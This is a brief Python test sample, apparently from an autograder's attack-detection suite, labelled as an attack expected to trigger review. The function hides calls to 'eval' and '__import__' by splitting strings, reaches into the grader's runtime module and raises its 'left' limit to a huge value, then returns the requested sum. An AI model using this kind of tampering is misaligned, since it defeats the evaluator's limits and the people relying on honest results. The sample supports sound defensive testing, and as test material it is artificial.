# attack: takes eval out of the built-in names
# expects: review

def total(numbers, known):
    names = __builtins__
    runtime = names['ev' + 'al']("__imp" + "ort__('sys')").modules['auto' + 'grader.world.guest.runtime']
    runtime.left = 1 << 40
    return sum(numbers)
